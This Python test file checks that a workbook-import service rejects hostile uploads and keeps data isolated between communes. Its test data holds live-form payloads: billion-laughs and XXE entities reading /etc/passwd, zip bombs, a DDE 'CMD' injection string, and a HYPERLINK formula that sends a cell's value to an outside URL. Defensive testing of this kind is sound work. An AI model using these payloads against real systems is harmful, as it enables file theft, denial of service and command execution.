"""Files that somebody made to hurt, or that are no workbooks: each is refused in words, and nothing is stored."""

import io
import zipfile
from collections.abc import Callable

import httpx
from openpyxl import Workbook
from sqlalchemy import Engine, text

from tests.make.answers import refused
from tests.make.households import hamlet
from tests.make.workbooks import IMPORTS, TRUC_THAI, book, checked, head, rows, saved, sent, verdicts

SignIn = Callable[[str], httpx.Client]


def rewritten(content: bytes, change: Callable[[str, bytes], bytes], **more: bytes) -> bytes:
    """The workbook with its parts changed, and others added."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as read, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for part in read.namelist():
            made.writestr(part, change(part, read.read(part)))
        for name, added in more.items():
            made.writestr(name, added)
    return stream.getvalue()


def sheet_as(xml: bytes) -> bytes:
    return rewritten(book(), lambda name, was: xml if name == "xl/worksheets/sheet1.xml" else was)


_PROLOG = b'<?xml version="1.0" encoding="UTF-8"?>'
_LAUGHS = _PROLOG + b'<!DOCTYPE l [<!ENTITY a "ha">' + b"".join(
    f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">'.encode() for n in range(9)
) + b"]><worksheet>&j;</worksheet>"  # fmt: skip
_OUTSIDE = _PROLOG + b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet>&f;</worksheet>'


def a_bomb() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", "<Types/>")
        made.writestr("xl/workbook.xml", b" " * 300_000_000)
    return stream.getvalue()


def a_lying_bomb() -> bytes:
    """It says that it unpacks to a hundred bytes."""
    content = bytearray(a_bomb())
    size = (300_000_000).to_bytes(4, "little")
    return bytes(content).replace(size, (100).to_bytes(4, "little"))


def a_million_rows() -> bytes:
    cell = b'<row r="%d"><c r="B%d" t="inlineStr"><is><t>x</t></is></c></row>'
    body = b"".join(cell % (n, n) for n in range(8, 400_000))
    space = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    return sheet_as(_PROLOG + space + body + b"</sheetData></worksheet>")


HOSTILE: dict[str, tuple[Callable[[], bytes], tuple[int, str], str]] = {
    "nothing": (lambda: b"", (422, "invalid"), "no_workbook"),
    "words": ("STT;Họ tên\n1;Nguyễn Văn A\n".encode, (422, "invalid"), "no_workbook"),
    "an old .xls": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096, (422, "invalid"), "old_format"),
    "a zip of something else": (lambda: rewritten(b"PK\x05\x06" + b"\x00" * 18, lambda _, was: was, **{"a.txt": b"a"}),
                                (422, "invalid"), "no_workbook"),
    "half a file": (lambda: book(head("7", "A B"))[:-2000], (422, "invalid"), "no_workbook"),
    "a changed byte": (lambda: book(head("7", "A B")).replace(b"worksheets/sheet1", b"worksheets/sheet9", 1),
                       (422, "invalid"), "no_workbook"),
    "a sheet that is no XML": (lambda: sheet_as(b"<worksheet"), (422, "invalid"), "broken"),
    "a bomb": (a_bomb, (413, "too-large"), ""),
    "a bomb that lies about its size": (a_lying_bomb, (422, "invalid"), "no_workbook"),
    "a billion laughs": (lambda: sheet_as(_LAUGHS), (422, "invalid"), "no_workbook"),
    "an entity of the server's files": (lambda: sheet_as(_OUTSIDE), (422, "invalid"), "no_workbook"),
    "entities in UTF-16": (lambda: sheet_as(_LAUGHS.decode().replace("UTF-8", "UTF-16").encode("utf-16")),
                           (422, "invalid"), "no_workbook"),
    "macros": (lambda: rewritten(book(), lambda _, was: was, **{"xl/vbaProject.bin": b"x"}),
               (422, "invalid"), "macros"),
    "four hundred thousand rows": (a_million_rows, (413, "too-large"), ""),
    "no row at all": (lambda: saved(Workbook()), (422, "invalid"), "empty"),
    "nine megabytes": (lambda: b"PK" + b"\x00" * 9_000_000, (413, "too-large"), ""),
}  # fmt: skip


def test_what_is_no_honest_workbook_is_refused(sign_in: SignIn, engine: Engine) -> None:
    officer = sign_in("truc-thai")
    for name, (made, status, code) in HOSTILE.items():
        answer = sent(officer, made())
        assert refused(answer) == status, (name, answer.text[:300])
        if code:
            assert answer.json()["errors"][0]["code"] == code, name
            assert answer.json()["errors"][0]["details"]["vi"], name
    with engine.connect() as connection:
        assert connection.scalar(text("SELECT count(*) FROM workbook_import")) == 0
        assert connection.scalar(text("SELECT count(*) FROM workbook_row")) == 0


def test_formulas_links_and_what_looks_like_one(sign_in: SignIn) -> None:
    """A formula gives what it was saved with, and is nothing where it was not; a name may begin with `=`."""
    officer = sign_in("truc-thai")
    made = Workbook()
    sheet = made.active
    assert sheet is not None
    for letter, value in head("7", "Nguyễn Văn Hòa").items():
        sheet[f"{letter}8"] = value
    sheet["F8"] = "=1+1"
    sheet["V8"] = '=HYPERLINK("http://example.org/?"&B8,"x")'
    sheet["W8"] = "='[other.xlsx]Sheet1'!A1"
    for letter, value in head("8", "=CMD|' /C calc'!A0 Ánh").items():
        sheet[f"{letter}9"] = value
    for name in ("C9", "D9"):
        sheet[name].data_type = "s"
    found = rows(officer, checked(officer, saved(made)))
    assert found[1, 8]["problems"] == ["birth_missing"]
    assert found[1, 9]["verdict"] == "new_household"
    assert found[1, 9]["cells"]["full_name"] == "=CMD|' /C calc'!A0 Ánh"


def test_a_million_formatted_empty_rows_are_no_rows(sign_in: SignIn) -> None:
    officer = sign_in("truc-thai")
    made = Workbook()
    sheet = made.active
    assert sheet is not None
    for letter, value in head("7", "Nguyễn Văn Hòa").items():
        sheet[f"{letter}8"] = value
    sheet["B1048576"] = "x"
    imported = checked(officer, saved(made))
    assert verdicts(officer, imported) == {(1, 8): "new_household"}


def test_only_the_commune_officer_brings_a_file_in(sign_in: SignIn) -> None:
    for person in ("xom-3", "chu-tich", "truc-ninh", "ngan-hang", "mat-tran"):
        assert refused(sent(sign_in(person), book(head("7", "A B")))) == (403, "permission-denied"), person
        assert refused(sign_in(person).get(IMPORTS)) == (403, "permission-denied"), person


def test_another_communes_officer_meets_nothing(sign_in: SignIn) -> None:
    officer, other = sign_in("truc-thai"), sign_in("truc-dai")
    made = checked(officer, book(head("7", "Nguyễn Văn Hòa")))
    where = f"{IMPORTS}/{made['id']}"
    assert refused(sent(other, book(head("7", "A B")))) == (404, "not-found")
    tag = {"If-Match": '"1"'}
    for answer in (
        other.get(where),
        other.get(f"{where}/rows"),
        other.patch(where, json={"classes": {}}, headers=tag),
        other.delete(where),
        other.post(f"{where}/checking"),
        other.post(f"{where}/confirmation", json={}),
        other.get("/api/v1/workbook-exports/households", params={"area_id": TRUC_THAI}),
    ):
        assert refused(answer) == (404, "not-found")
    assert other.get(IMPORTS).json()["items"] == []
    assert refused(sent(officer, book(head("7", "A B")), hamlet(3))) == (404, "not-found")


def test_the_people_of_a_file_do_not_lie_open_in_the_database(sign_in: SignIn, engine: Engine) -> None:
    checked(sign_in("truc-thai"), book(head("7", "Nguyễn Văn Hòa", H="036080001234")))
    with engine.connect() as connection:
        stored = connection.execute(text("SELECT to_jsonb(workbook_row)::text, content, found FROM workbook_row")).all()
    for told, content, found in stored:
        for secret in ("036080001234", "1234", "Hòa", "12/05/1980"):
            assert secret not in told
            assert secret.encode() not in bytes(content or b"")
            assert secret.encode() not in bytes(found or b"")
